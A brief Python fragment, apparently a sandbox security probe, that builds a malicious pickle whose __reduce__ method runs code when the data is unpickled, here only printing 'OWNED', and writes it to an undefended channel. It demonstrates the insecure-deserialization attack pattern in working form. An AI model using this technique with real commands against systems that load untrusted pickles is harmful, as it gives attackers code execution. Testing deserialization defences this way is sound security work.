# ruff: noqa
# idea: a pickle that runs a command where it is read
# undefended: channel
# sandbox: ended protocol
import pickle


class Bomb:
    def __reduce__(self):
        return print, ("OWNED",)


os.write(CHANNEL, frame(pickle.dumps(Bomb())))
